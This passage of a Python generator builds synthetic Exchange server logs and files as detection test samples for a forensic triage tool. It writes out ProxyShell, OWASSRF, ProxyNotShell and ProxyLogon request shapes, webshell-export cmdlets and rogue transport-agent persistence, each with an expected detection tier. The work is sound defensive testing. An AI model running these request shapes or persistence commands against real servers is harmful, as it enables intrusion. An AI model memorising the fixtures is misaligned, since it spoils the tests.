                       "MacOutlook/16.51.21071101 (Intelx64 Mac OS X 11.5.1 (Build 20G80))",
                       "2e4f6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a7c"),
        "akhan": User("akhan", 1125, "10.0.2.14", CHROME92, OUTLOOK19, "5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f"),
        "lchen": User("lchen", 1131, "100.64.12.9", "", "Apple-iPhone12C1/1806.106",
                      "9c1e3a5b-7d9f-4c1e-8b3d-5f7a9c1e3b5d"),
        "exadmin": User("exadmin", 1105, "10.0.0.50", CHROME92, OUTLOOK19, "1f3b5d7a-9c2e-4f6a-8d0b-2c4e6a8b0d1f"),
    }
    return srv


def mbx02_layout(srv: Server) -> LogLayout:
    logging = f"{srv.exch_rel}/Logging"
    days = [dt.date(2021, 8, 13), dt.date(2022, 12, 13)]
    return LogLayout(
        hp_hours=[d(2021, 8, 13, h) for h in (11, 12)] + [d(2022, 12, 13, h) for h in (9, 10)],
        iis_days=days, be_days=days, lower_ext=set(),
        ecp_server=(f"{logging}/ECP/Server/ECPServer20221213-1.LOG", d(2022, 12, 13, 0, 0, 12, 40)),
        ecp_activity=(f"{logging}/ECP/Activity/ECPActivity_7720_20221213-1.LOG", d(2022, 12, 13, 0, 0, 12, 31)),
        oab=(f"{logging}/OABGeneratorLog/OABGenerator_20221213-1.LOG", d(2022, 12, 13, 0, 5, 1, 118)),
        oab_pid=4410, oab_name="\\Default Offline Address Book (Ex2019)",
        rps=(f"{logging}/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021081311-1.LOG", d(2021, 8, 13, 11, 0, 3, 512)),
        rps_pid=6688, ecp_one_off_usid_first=False)


def mbx_everyday_traffic(h: Host) -> None:
    """Probes and users on both days; Outlook's ordinary autodiscover.json requests (traps)."""
    srv = h.srv
    h.reqs += ordinary_traffic(srv, d(2021, 8, 13, 10), d(2021, 8, 13, 13, 59))
    h.reqs += ordinary_traffic(srv, d(2022, 12, 13, 8), d(2022, 12, 13, 10, 59))
    u = srv.users["lchen"]
    for t, stem, query, what in [
        (d(2021, 8, 13, 11, 12, 7, 310), f"/autodiscover/autodiscover.json/v1.0/lchen@{srv.dom}", "Protocol=ActiveSync&RedirectCount=1",
         "Outlook for iOS autodiscover.json with '@' in the path (v1.0 shape)"),
        (d(2022, 12, 13, 9, 31, 44, 20), "/autodiscover/autodiscover.json", f"Email=lchen%40{srv.dom}&Protocol=EWS&RedirectCount=1",
         "Outlook autodiscover.json with Email=...%40... and Protocol=EWS"),
        (d(2022, 12, 13, 9, 31, 44, 610), f"/autodiscover/autodiscover.json/v1.0/lchen@{srv.dom}", "Protocol=RemotePowerShell&RedirectCount=1",
         "Outlook autodiscover.json asking for the RemotePowerShell endpoint (a protocol name, not a path)"),
    ]:
        h.reqs.append(Req(end=t, proto="Autodiscover", method="GET", stem=stem, query=query, host=srv.ext_host, cip=u.ip,
                          ua="Outlook-iOS/709.2189947.prod.iphone (4.2130.0)", anchor=f"Smtp~lchen@{srv.dom}",
                          routing_hint="AutodiscoverJsonSmtp", latency=21,
                          iis_trace=Trace("§4.1-§4.3", "benign: " + what, "-", T_NONE),
                          proxy_trace=Trace("§4.1-§4.3", "benign: " + what + " (HttpProxy)", "-", T_NONE)))
    hmb = f"{srv.netbios}\\{srv.health}"
    h.rps.append((d(2021, 8, 13, 11, 0, 3, 512), hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'))
    h.httperr += [
        "2021-08-13 10:41:17 10.0.1.25 50412 10.0.0.22 443 - - - - - - Timer_ConnectionIdle -",
        "2022-12-13 08:15:02 100.64.12.9 40993 10.0.0.22 443 HTTP/1.1 POST /Microsoft-Server-ActiveSync/default.eas?Cmd=Ping&User=lchen&DeviceId=ApplF2LXK0CQN1P4&DeviceType=iPhone - - 1 Connection_Dropped MSExchangeSyncAppPool",
    ]


def mbx_admin_work(h: Host) -> None:
    """CORP\\exadmin, 2021-08-13 10:58-11:10: a leaver's mailbox exported to the PST share after the
    Mailbox Import Export role grant, a certificate request to C:\\certs, Microsoft's Content Filter Agent
    installed (Install-AntiSpamAgents.ps1): ordinary administration."""
    srv = h.srv
    adm = srv.users["exadmin"]
    ex = f"{srv.netbios}\\exadmin"
    h.reqs += [admin_ps(srv, adm, d(2021, 8, 13, 10, 58, 2, 110), "New-ManagementRoleAssignment:Command"),
               admin_ps(srv, adm, d(2021, 8, 13, 11, 2, 40, 412), "New-MailboxExportRequest:Command"),
               admin_ps(srv, adm, d(2021, 8, 13, 11, 8, 11, 9), "New-ExchangeCertificate:Command")]
    h.rps += [
        (d(2021, 8, 13, 11, 2, 40, 390), ex, srv.sid(1105), True, "ManagementShell", "New-MailboxExportRequest",
         f'-Mailbox "leaver@{srv.dom}" -FilePath "\\\\fs01\\pst$\\leaver.pst"'),
        (d(2021, 8, 13, 11, 8, 10, 990), ex, srv.sid(1105), True, "ManagementShell", "New-ExchangeCertificate",
         f'-GenerateRequest "True" -RequestFile "C:\\certs\\mail-2021.req" -SubjectName "CN=mail.corp.example" -DomainName "mail.corp.example"'),
        # Install-AntiSpamAgents.ps1: Microsoft's own agent from TransportRoles\agents (a look-alike that must stay quiet).
        (d(2021, 8, 13, 11, 10, 2, 204), ex, srv.sid(1105), True, "ManagementShell", "Install-TransportAgent",
         f'-Name "Content Filter Agent" -TransportAgentFactory "Microsoft.Exchange.Transport.Agent.ContentFilter.ContentFilterAgentFactory" '
         f'-AssemblyPath "{srv.exch_win}\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.Hygiene.dll"'),
        (d(2021, 8, 13, 11, 10, 3, 611), ex, srv.sid(1105), True, "ManagementShell", "Enable-TransportAgent", '-Identity "Content Filter Agent"'),
    ]


def mbx_proxyshell_chain(h: Host) -> None:
    """203.0.113.77, 2021-08-13 11:21-11:23: ProxyShell (CVE-2021-34473/-34523/-31207) through
    autodiscover.json, Remote PowerShell as Administrator via X-Rps-CAT, mailbox export to bzxrq.aspx,
    then a transport agent installed from a profile folder and enabled (Install-/Enable-TransportAgent)."""
    srv = h.srv
    email = "&Email=autodiscover/autodiscover.json%3F@evil.corp"
    admin = f"{srv.netbios}\\Administrator"
    steps = [
        (d(2021, 8, 13, 11, 21, 2, 118), "GET", f"@evil.corp/autodiscover/autodiscover.xml?{email}", "/autodiscover/autodiscover.xml", "",
         "stage 1: autodiscover.xml through the path confusion (LegacyDN)"),
        (d(2021, 8, 13, 11, 21, 4, 530), "POST", f"@evil.corp/mapi/emsmdb?{email}", "/mapi/emsmdb", "",
         "stage 2: /mapi/emsmdb through the path confusion (the Administrator's SID)"),
    ]
    for t, method, query, be_stem, be_query, what in steps:
        h.reqs.append(Req(end=t, proto="Autodiscover", method=method, stem="/autodiscover/autodiscover.json", query=query,
                          host=srv.ext_host, cip=PS_ATTACKER_IP, ua=PS_UA, routing_hint="AutodiscoverJsonSmtp",
                          be_stem=be_stem, be_query=be_query, latency=srv.rng.randint(60, 300),
                          iis_trace=Trace("§4.1", "ProxyShell " + what, "CVE-2021-34473 / T1190", T_LIKELY),
                          proxy_trace=Trace("§4.1", "ProxyShell " + what + " (HttpProxy)", "CVE-2021-34473 / T1190", T_LIKELY)))
    cmdlets = [
        (d(2021, 8, 13, 11, 21, 31, 207), "New-ManagementRoleAssignment", f'-Role "Mailbox Import Export" -User "administrator@{srv.dom}"'),
        (d(2021, 8, 13, 11, 22, 5, 844), "New-MailboxExportRequest",
         f'-Mailbox "administrator@{srv.dom}" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'bzxrq\'" '
         f'-ExcludeDumpster "True" -FilePath "{PS_SHELL_UNC}"'),
        (d(2021, 8, 13, 11, 23, 12, 60), "Remove-MailboxExportRequest", f'-Identity "administrator@{srv.dom}\\MailboxExport" -Confirm "False"'),
    ]
    for t, cmdlet, params in cmdlets:
        h.reqs.append(Req(end=t + dt.timedelta(milliseconds=40), proto="Autodiscover", method="POST", stem="/autodiscover/autodiscover.json",
                          query=f"@evil.corp/powershell/?X-Rps-CAT={PS_CAT}{email}", host=srv.ext_host, cip=PS_ATTACKER_IP, ua=PS_UA,
                          routing_hint="AutodiscoverJsonSmtp", be_stem="/powershell", be_query=f"X-Rps-CAT={PS_CAT}",
                          be_user=admin, latency=srv.rng.randint(300, 900),
                          iis_trace=Trace("§4.1", f"ProxyShell Remote PowerShell with X-Rps-CAT ({cmdlet})", "CVE-2021-34473, CVE-2021-34523 / T1190", T_LIKELY),
                          proxy_trace=Trace("§4.1", f"ProxyShell Remote PowerShell with X-Rps-CAT ({cmdlet}) (HttpProxy)",
                                            "CVE-2021-34473, CVE-2021-34523 / T1190", T_LIKELY)))
        h.rps.append((t, admin, srv.sid(500), True, "", cmdlet, params))
    # Persistence in mail flow over the same session: the agent agents.config names, installed from a
    # profile folder and enabled (Rps_Cmdlet rows only, so the sample's other logs stay as they were).
    h.rps += [
        (d(2021, 8, 13, 11, 23, 40, 518), admin, srv.sid(500), True, "", "Install-TransportAgent",
         '-Name "Transport Compliance Agent" -TransportAgentFactory "Microsoft.Exchange.Transport.Agent.Compliance.ComplianceAgentFactory" '
         '-AssemblyPath "C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Microsoft.Exchange.Transport.Agent.Compliance.dll"'),
        (d(2021, 8, 13, 11, 23, 52, 301), admin, srv.sid(500), True, "", "Enable-TransportAgent", '-Identity "Transport Compliance Agent"'),
    ]


def mbx_proxyshell_shell_use(h: Host) -> None:
    """The attacker calls the exported page: GET, then POSTs (Chopper-style)."""
    srv = h.srv
    h.reqs += [
        iis_only(srv, d(2021, 8, 13, 11, 26, 40, 17), "GET", f"/aspnet_client/{PS_SHELL}", PS_UA, 200,
                 Trace("C12", f"GET 200 of the PST-headed shell {PS_SHELL}", "T1505.003", T_LIKELY), cip=PS_ATTACKER_IP),
        iis_only(srv, d(2021, 8, 13, 11, 27, 3, 402), "POST", f"/aspnet_client/{PS_SHELL}", PS_UA, 200,
                 Trace("C12", f"POST 200 to confirmed shell {PS_SHELL}", "T1505.003", T_CONFIRMED), cip=PS_ATTACKER_IP),
        iis_only(srv, d(2021, 8, 13, 11, 31, 18, 990), "POST", f"/aspnet_client/{PS_SHELL}", PS_UA, 200,
                 Trace("C12", f"POST 200 to confirmed shell {PS_SHELL}", "T1505.003", T_CONFIRMED), cip=PS_ATTACKER_IP),
    ]


def mbx_proxyshell_scanner(h: Host) -> None:
    """192.0.2.140, 12:40: a ProxyShell probe for a mailbox that does not exist, 404."""
    srv = h.srv
    h.reqs.append(Req(end=d(2021, 8, 13, 12, 40, 9, 300), proto="Autodiscover", method="GET", stem="/autodiscover/autodiscover.json",
                      query="@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com", host=srv.ip, cip=PS_SCANNER_IP,
                      ua="Mozilla/5.0 zgrab/0.x", status=404, proxied=False, latency=14,
                      iis_trace=Trace("§4.1", "ProxyShell probe to /mapi/nspi answered 404", "CVE-2021-34473 / T1190", T_ATTEMPT),
                      proxy_trace=Trace("§4.1", "ProxyShell probe to /mapi/nspi answered 404 (HttpProxy)", "CVE-2021-34473 / T1190", T_ATTEMPT)))


def mbx_owassrf_chain(h: Host) -> None:
    """198.51.100.99 with CORP\\jdoe's password, 2022-12-13 09:14: OWASSRF (CVE-2022-41080) to Remote
    PowerShell, then CVE-2022-41082 runs cmd.exe under the PowerShell app pool (Security 4688)."""
    srv = h.srv
    nb = f"{srv.netbios}\\jdoe"
    for i, t in enumerate([d(2022, 12, 13, 9, 14, 2, 310), d(2022, 12, 13, 9, 14, 3, 118), d(2022, 12, 13, 9, 14, 5, 902)]):
        h.reqs.append(Req(end=t, proto="Owa", method="POST", stem="/owa/mastermailbox%40outlook.com/powershell",
                          query="", host=srv.ext_host, cip=OWASSRF_IP, ua=OWASSRF_UA, iis_user=nb, auth_type="Basic", is_auth=True,
                          auth_user=nb, anchor="Smtp~mastermailbox@outlook.com", routing_hint="Url-Smtp", be_stem="/powershell",
                          be_user=nb, latency=srv.rng.randint(200, 1200), owa_encoding=True,
                          iis_trace=Trace("§4.3", f"OWASSRF POST /owa/mastermailbox%40outlook.com/powershell 200 ({i + 1}/3)",
                                          "CVE-2022-41080, CVE-2022-41082 / T1190", T_LIKELY),
                          proxy_trace=Trace("§4.3", f"OWASSRF Owa row UrlStem .../powershell 200 ({i + 1}/3)",
                                            "CVE-2022-41080, CVE-2022-41082 / T1190", T_LIKELY)))


def mbx_proxynotshell_probe(h: Host) -> None:
    """192.0.2.91, 09:40: the ProxyNotShell shape with the '%50owershell' spelling that bypassed the
    URL-rewrite mitigation; AMSI (CU11) flags it and Exchange answers 400."""
    srv = h.srv
    h.reqs.append(Req(end=d(2022, 12, 13, 9, 40, 11, 250), proto="Autodiscover", method="GET", stem="/autodiscover/autodiscover.json",
                      query="@evil.corp/owa/&Email=autodiscover/autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=%50owershell",
                      host=srv.ext_host, cip=PNS_PROBE_IP, ua="python-requests/2.28.1", status=400,
                      proxied=False, latency=9,
                      iis_trace=Trace("§4.2", "ProxyNotShell shape with FooProtocol=%50owershell (decoded: Powershell), 400 (AMSI block)",
                                      "CVE-2022-41040 / T1190", T_ATTEMPT),
                      proxy_trace=Trace("§4.1/§4.2", "the same probe in HttpProxy: unauthenticated, so graded by the ProxyShell rule's Email= marker, 400",
                                        "CVE-2021-34473 / T1190", T_ATTEMPT)))


def mbx_stock_server_files(h: Host) -> None:
    """applicationHost.config with Microsoft's native modules and a rogue one; agents.config with
    Microsoft's transport agents and a rogue one; web folders; wwwroot."""
    tree, srv = h.tree, h.srv
    tree.write_text("Windows/System32/inetsrv/config/applicationHost.config",
                    application_host_config(srv, "%ExchangeInstallPath%", MICROSOFT_NATIVE_MODULES + [ROGUE_NATIVE_MODULE]),
                    Trace("item 5 (persistence)", f"<globalModules>: IIS's and Exchange's native modules (must not fire) and {ROGUE_NATIVE_MODULE[0]} "
                                                 f"with image {ROGUE_NATIVE_MODULE[1]} (not a Microsoft file, outside inetsrv)",
                          "T1505.004", T_LIKELY + " (rogue module only)"))
    tree.write_text(f"{srv.exch_rel}/TransportRoles/Shared/agents.config", agents_config(srv.exch_win),
                    Trace("item 5 (persistence)", "agents.config: Microsoft's transport agents (must not fire) and 'Transport Compliance Agent' "
                                                 "loaded from NetworkService's AppData (not shipped with Exchange)",
                          "T1505.002", T_LIKELY + " (rogue agent only)"))
    web_folders(tree, srv, "15.2.858", "EWS", "TimeoutLogout.aspx")
    wwwroot(tree)


def mbx_planted_files(h: Host) -> None:
    """The PST-headed shell, and the Rps_Http log of the OWASSRF session (with ordinary rows)."""
    tree, srv = h.tree, h.srv
    tree.write_bytes(f"inetpub/wwwroot/aspnet_client/{PS_SHELL}", pst_headed_shell("bzxrq"),
                     Trace("C09/C10", f"aspnet_client\\{PS_SHELL}: a PST (magic !BDN) written by New-MailboxExportRequest, "
                                      "script inside (ProxyShell CVE-2021-31207)", "CVE-2021-31207 / T1505.003", T_CONFIRMED))
    srv.build = srv.build_at(d(2022, 12, 13))
    a, b, c, rev = srv.build
    log = LogFile()
    for line in exchange_header(srv.ver_header, "Rps Http Logs", "2022-12-13T09:00:04.118Z", RPS_HTTP_FIELDS):
        log.add(line)
    rows = [
        (d(2022, 12, 13, 9, 2, 7, 415), f"{srv.health}@{srv.dom}", "127.0.0.1", "Exchange BackEnd Probes", 200, None),
        (d(2022, 12, 13, 9, 14, 3, 260), f"jdoe@{srv.dom}", f"{OWASSRF_IP} {srv.ip}", OWASSRF_UA.replace(",", " "), 200,
         Trace("§4.3", "Rps_Http ClientInfo is a browser agent, not WinRM or Exchange's probes (OWASSRF session)",
               "CVE-2022-41082 / T1190", T_LIKELY)),
        (d(2022, 12, 13, 9, 14, 5, 980), f"jdoe@{srv.dom}", f"{OWASSRF_IP} {srv.ip}", OWASSRF_UA.replace(",", " "), 200,
         Trace("§4.3", "Rps_Http ClientInfo is a browser agent (second request of the session)", "CVE-2022-41082 / T1190", T_LIKELY)),
        (d(2022, 12, 13, 10, 5, 51, 300), f"exadmin@{srv.dom}", "10.0.0.50", "Microsoft WinRM Client", 200,
         Trace("§4.3", "benign: an administrator's Remote PowerShell (Microsoft WinRM Client)", "-", T_NONE)),
    ]
    for t, user, hops, info, status, trace in rows:
        start = t - dt.timedelta(milliseconds=236)
        values = {"DateTime": iso_ms(t), "StartTime": iso_ms(start), "RequestId": srv.guid(),
                  "MajorVersion": a, "MinorVersion": b, "BuildVersion": c, "RevisionVersion": rev,
                  "UrlHost": srv.fqdn, "UrlStem": "/powershell", "AuthenticationType": "Kerberos", "IsAuthenticated": "true",
                  "AuthenticatedUser": user, "ClientIpAddress": hops, "ServerHostName": srv.short, "FrontEndServer": srv.fqdn.upper(),
                  "HttpStatus": status, "SubStatus": 0, "RequestBytes": 2946, "ClientInfo": info, "ActivityContextLifeTime": 236,
                  "TotalTime": 236, "UrlQuery": f"?PSVersion={srv.os_build}",
                  "GenericInfo": "S:ServiceCommonMetadata.HttpMethod=POST;"}
        log.add(csv_row(named_row(RPS_HTTP_FIELDS, values)), trace)
    tree.write_log(f"{srv.exch_rel}/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022121309-1.LOG", log, bom=True)

    # AMSI request filtering (CU10 and later): the scan result of each request; the probe is Detected.
    amsi = LogFile()
    for line in exchange_header(srv.ver_header, "HttpRequestFiltering Logs", "2022-12-13T09:00:01.020Z", HTTP_REQUEST_FILTERING_FIELDS):
        amsi.add(line)
    for t, proto, stem, cip, result, trace in [
        (d(2022, 12, 13, 9, 31, 44, 18), "Autodiscover", "/autodiscover/autodiscover.json", "100.64.12.9", "NotDetected",
         Trace("§4.2", "benign: Outlook's autodiscover.json scanned, NotDetected", "-", T_NONE)),
        (d(2022, 12, 13, 9, 40, 11, 248), "Autodiscover", "/autodiscover/autodiscover.json", PNS_PROBE_IP, "Detected",
         Trace("§4.2", "AMSI Detected the ProxyNotShell probe (answered 400)", "CVE-2022-41040 / T1190", T_ATTEMPT)),
    ]:
        amsi.add(csv_row(named_row(HTTP_REQUEST_FILTERING_FIELDS, {
            "DateTime": iso_ms(t), "RequestId": srv.guid(), "Protocol": proto, "UrlHost": srv.ext_host, "UrlStem": stem,
            "ClientIpAddress": cip, "ScanResult": result, "AmsiProvider": "Windows Defender"})), trace)
    tree.write_log(f"{srv.exch_rel}/Logging/HttpRequestFiltering/HttpRequestFiltering_2022121309-1.LOG", amsi, bom=True)


def mbx_benign_files(h: Host) -> None:
    """Registry placeholders."""
    tree = h.tree
    tree.write_bytes("Windows/System32/config/SYSTEM", regf_placeholder("SYSTEM", d(2022, 12, 13, 10, 50)))
    tree.write_bytes("Windows/System32/config/SOFTWARE", regf_placeholder("SOFTWARE", d(2022, 12, 13, 10, 51)))


def mbx_event_log_traces(h: Host) -> None:
    """Trace rows for the event logs (Swift writer, Tests/TestSupport/SampleEventLogs.swift)."""
    tree = h.tree
    for rel, record, trace in [
        ("MSExchange Management.evtx", 2201, Trace("C15", "New-ManagementRoleAssignment -Role \"Mailbox Import Export\" (ProxyShell)", "T1098", T_LIKELY)),
        ("MSExchange Management.evtx", 2202, Trace("C15", f"New-MailboxExportRequest -FilePath {PS_SHELL_UNC}", "CVE-2021-31207 / T1505.003", T_CONFIRMED)),
        ("MSExchange Management.evtx", 2203, Trace("C15", "Remove-MailboxExportRequest (clean-up)", "T1070", T_INFO)),
        ("MSExchange Management.evtx", 2204, Trace("§1.3", "Install-TransportAgent \"Transport Compliance Agent\" from Windows\\ServiceProfiles "
                                                           "(EVT-EXCH-TRANSPORT-AGENT)", "T1505.002", T_LIKELY)),
        ("Microsoft-IIS-Configuration%4Operational.evtx", 412, Trace("§1.3", "benign: event 29, RewriteModule added to globalModules (URL Rewrite, 2021)",
                                                                     "-", T_NONE)),
        ("Microsoft-IIS-Configuration%4Operational.evtx", 413, Trace("§1.3", "benign: event 29, RewriteModule's image in system32\\inetsrv",
                                                                     "-", T_NONE)),
        ("Microsoft-IIS-Configuration%4Operational.evtx", 414, Trace("§1.3", "event 29: IsapiCacheModule added to globalModules after the OWASSRF "
                                                                     "shell (EVT-IIS-CONFIG-MODULE)", "T1505.004", T_LIKELY)),
        ("Microsoft-IIS-Configuration%4Operational.evtx", 415, Trace("§1.3", "event 29: IsapiCacheModule's image in ProgramData", "T1505.004", T_LIKELY)),
        ("Application.evtx", 90114, Trace("§4.2", "MSExchange Mitigation Service 1005: mitigation M1 (CVE-2022-41040 URL rewrite) applied 2022-10-01",
                                           "-", T_INFO)),
        ("Security.evtx", 310415, Trace("C15", "4688 w3wp.exe (MSExchangePowerShellAppPool) -> cmd.exe after the OWASSRF session",
                                        "CVE-2022-41082 / T1505.003", T_CONFIRMED)),
        ("Security.evtx", 310416, Trace("C15", "4688 cmd.exe -> powershell.exe download cradle from 198.51.100.99", "T1059.001", T_CONFIRMED)),
    ]:
        tree.add_trace(f"Windows/System32/winevt/Logs/{rel}", record, trace)


def mbx_build_and_coverage_notes(h: Host) -> None:
    """Build, coverage and the empty stock folder."""
    tree, srv = h.tree, h.srv
    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/Ecp/HttpProxy_2021081311-1.LOG", 2,
                   Trace("C02", "#Version: 15.02.0858.005 = Exchange 2019 CU9 without any SU: lacks the fixes for ProxyShell, "
                                "ProxyNotShell, OWASSRF and the later Exchange CVEs", "-", T_INFO))
    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/Ecp/HttpProxy_2022121309-1.LOG", 2,
                   Trace("C02", "#Version: 15.02.0986.005 = Exchange 2019 CU11 (installed autumn 2021; has the ProxyShell fixes and AMSI, "
                                "lacks the November 2021 and November 2022 SUs: OWASSRF works)", "-", T_INFO))
    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/", None,
                   Trace("C01", "HttpProxy 2021-08-13 11:00-12:59 and 2022-12-13 09:00-10:59 only; IIS both days", "-", T_INFO))
    tree.add_trace("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", None,
                   Trace("C09", "zero-byte git placeholder that keeps the empty stock folder (see README)", "-", T_NONE))
    rps = f"{srv.exch_rel}/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021081311-1.LOG"
    for line, trace in [
        (9, Trace("§1.3", "benign: Install-TransportAgent of Microsoft's Content Filter Agent from TransportRoles\\agents (Install-AntiSpamAgents.ps1)",
                  "-", T_NONE)),
        (10, Trace("§1.3", "benign: Enable-TransportAgent \"Content Filter Agent\"", "-", T_NONE)),
        (14, Trace("§1.3", "Install-TransportAgent \"Transport Compliance Agent\" from Windows\\ServiceProfiles\\NetworkService (ProxyShell session)",
                   "T1505.002", T_LIKELY)),
        (15, Trace("§1.3", "Enable-TransportAgent \"Transport Compliance Agent\" (evidence of the install's finding)", "T1505.002", T_LIKELY)),
    ]:
        tree.add_trace(rps, line, trace)


MBX_ACTIVITY = (mbx_everyday_traffic, mbx_admin_work, mbx_proxyshell_chain, mbx_proxyshell_shell_use, mbx_proxyshell_scanner,
                mbx_owassrf_chain, mbx_proxynotshell_probe)
MBX_DISK = (mbx_stock_server_files, mbx_planted_files, mbx_benign_files)
MBX_NOTES = (mbx_event_log_traces, mbx_build_and_coverage_notes)


def make_later_chains(root: pathlib.Path) -> Tree:
    srv = mbx02()
    return build_host(root, srv, mbx02_layout(srv), MBX_ACTIVITY, MBX_DISK, MBX_NOTES)


# --------------------------------------------------------------------------------------
# README table
# --------------------------------------------------------------------------------------

BEGIN = "<!-- BEGIN GENERATED TRACES (make_samples.py) -->"
END = "<!-- END GENERATED TRACES -->"


def md_escape(s: str) -> str:
    return s.replace("|", "\\|").replace("<", "&lt;").replace(">", "&gt;")


def traces_markdown(name: str, tree: Tree) -> str:
    out = [f"#### `{name}`", "",
           "| # | File (relative to the volume root) | Line | Check | What | CVE / ATT&CK | Expected tier |",
           "|---|---|---|---|---|---|---|"]
    for i, t in enumerate(tree.traces, start=1):
        out.append(f"| {i} | `{t.path}` | {t.line if t.line else '-'} | {t.trace.check} | "
                   f"{md_escape(t.trace.what)} | {md_escape(t.trace.ids)} | {t.trace.tier} |")
    return "\n".join(out) + "\n"


def update_readme(trees: dict[str, Tree]) -> None:
    block = BEGIN + "\n\n" + "\n".join(traces_markdown(n, t) for n, t in trees.items()) + "\n" + END
    text = README.read_text(encoding="utf-8") if README.exists() else ""
    if BEGIN in text and END in text:
        pre, rest = text.split(BEGIN, 1)
        _, post = rest.split(END, 1)
        text = pre + block + post
    else:
        text = text + "\n" + block + "\n"
    README.write_text(text, encoding="utf-8")


EVTX_DIR = "Windows/System32/winevt/Logs"



# --------------------------------------------------------------------------------------
# Fleet: six servers of one synthetic organisation (Fabrikam), for `extriage case`
# --------------------------------------------------------------------------------------

FLEET_SCANNER_IP = "192.0.2.150"
FLEET_SCANNER_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"


@dataclass
class FleetActor:
    """One cluster of compromise: its own source, tools, shell and shell password."""
    name: str
    ip: str
    ua: str
    password: str
    ssrf_stem: str
    shell_rel: str      # the shell's path on the volume
    shell_url: str


FLEET_ACTOR_A = FleetActor("A", "203.0.113.61", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
                           "Xk9orange", "/ecp/a7.js", "inetpub/wwwroot/aspnet_client/system_web/OutlookRT.aspx",
                           "/aspnet_client/system_web/OutlookRT.aspx")
FLEET_ACTOR_B = FleetActor("B", "198.51.100.77", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/89.0",
                           "p4ssB33", "/ecp/b2.js", "inetpub/wwwroot/aspnet_client/supp0rt.aspx",
                           "/aspnet_client/supp0rt.aspx")
FLEET_VULNERABLE = (15, 1, 2176, 2)
FLEET_PATCHED = (15, 1, 2176, 9)   # Exchange 2016 CU19 with the March 2021 SU


def fleet_server(short: str, ip: str, seed: int) -> Server:
    """A Fabrikam server: EXCH01's shape (users, install path) under another name, address and domain."""
    srv = exch01()
    srv.short, srv.fqdn, srv.ip = short, f"{short.lower()}.fabrikam.local", ip
    srv.ext_host, srv.dom, srv.netbios = "mail.fabrikam.example", "fabrikam.local", "FABRIKAM"
    srv.rng = random.Random(seed)
    srv.build = FLEET_VULNERABLE
    return srv


def fleet_layout(srv: Server, day: dt.date) -> LogLayout:
    """Logs of one day, HttpProxy hours 05-10 UTC."""
    logging = f"{srv.exch_rel}/Logging"
    stamp = day.strftime("%Y%m%d")
    start = dt.datetime(day.year, day.month, day.day, tzinfo=UTC)
    return LogLayout(
        hp_hours=[start + dt.timedelta(hours=h) for h in range(5, 11)], iis_days=[day], be_days=[day], lower_ext=set(),
        ecp_server=(f"{logging}/ECP/Server/ECPServer{stamp}-1.LOG", start + dt.timedelta(minutes=1)),
        ecp_activity=(f"{logging}/ECP/Activity/ECPActivity_5512_{stamp}-1.LOG", start + dt.timedelta(minutes=1)),
        oab=(f"{logging}/OABGeneratorLog/OABGenerator_{stamp}-1.LOG", start + dt.timedelta(minutes=12)),
        oab_pid=6124, oab_name="\\Default Offline Address Book",
        rps=(f"{logging}/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_{stamp}05-1.LOG", start + dt.timedelta(hours=5)),
        rps_pid=7412, ecp_one_off_usid_first=True)


def fleet_everyday_traffic(h: Host, day: dt.date) -> None:
    """Health probes and users 05:00-11:00, one health Rps row and one idle HTTPERR line."""
    srv = h.srv
    start = dt.datetime(day.year, day.month, day.day, 5, tzinfo=UTC)
    h.reqs += ordinary_traffic(srv, start, start + dt.timedelta(hours=6))
    h.rps.append((start + dt.timedelta(minutes=3), f"{srv.netbios}\\{srv.health}", srv.sid(1151), False,
                  "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'))
    h.httperr.append(f"{day.isoformat()} 05:14:02 10.0.1.25 51822 {srv.ip} 443 - - - - - - Timer_ConnectionIdle -")


def fleet_scanner_probe(h: Host, t: dt.datetime) -> None:
    """The mass scanner every exposed server saw: an NSE-style localhost SSRF probe answered 500
    (attempt only), with one shared agent and address."""
    srv = h.srv
    h.reqs.append(Req(end=t, proto="Owa", method="GET", stem="/owa/auth/x.js", host=srv.ip, ua=FLEET_SCANNER_UA,
                      cip=FLEET_SCANNER_IP, status=500, proxied=False, anchor="ServerInfo~localhost/ecp/default.flt?",
                      routing_hint="X-AnonResource-Backend-Cookie", owa_encoding=True, latency=31, error_code="ServerNotFound",
                      generic_errors=("ProxyState-Error=ServerNotFound;WebException=System.Net.WebException: "
                                      "Unable to connect to the remote server, inner: localhost:443; "
                                      "ServerNotFoundException: Server localhost, not found")))


def fleet_proxylogon_chain(h: Host, actor: FleetActor, t0: dt.datetime) -> None:
    """The actor's chain: SSRF to proxyLogon.ecp (241), SetObject with its Chopper password in ExternalUrl."""
    srv = h.srv
    canary = srv.hexid(64) + "."
    set_url = f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory"
    stages = [("/autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", "", 200),
              ("/mapi/emsmdb/?#", "/mapi/emsmdb/", "", 200),
              ("/ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", "", 241),
              (set_url + "#", "/ecp/DDI/DDIService.svc/SetObject", set_url.split("?", 1)[1], 200)]
    for i, (target, be_stem, be_query, status) in enumerate(stages):
        h.reqs.append(Req(end=t0 + dt.timedelta(seconds=3 * i), proto="Ecp", method="POST", stem=actor.ssrf_stem, host=srv.ext_host,
